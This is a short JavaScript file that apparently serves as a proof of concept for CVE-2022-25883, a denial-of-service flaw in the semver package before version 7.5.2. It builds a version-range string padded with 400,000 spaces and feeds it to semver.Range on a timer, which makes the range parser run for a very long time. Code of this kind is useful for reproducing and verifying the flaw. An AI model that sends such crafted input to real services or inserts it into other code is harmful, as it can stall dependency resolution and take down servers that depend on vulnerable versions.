// CVE-2022-25883: semver before 7.5.2 takes time that grows with the square of the white space in a range.
const semver = require('semver');

const ranges = new Map();

function resolveDependency(name, spec) {
    const range = new semver.Range(spec);
    ranges.set(name, range);
    return range;
}

function onManifest() {
    resolveDependency('left-pad', 'v1.2.3' + ' '.repeat(400000) + '!');
}

console.log('ready');
setTimeout(onManifest, 10);
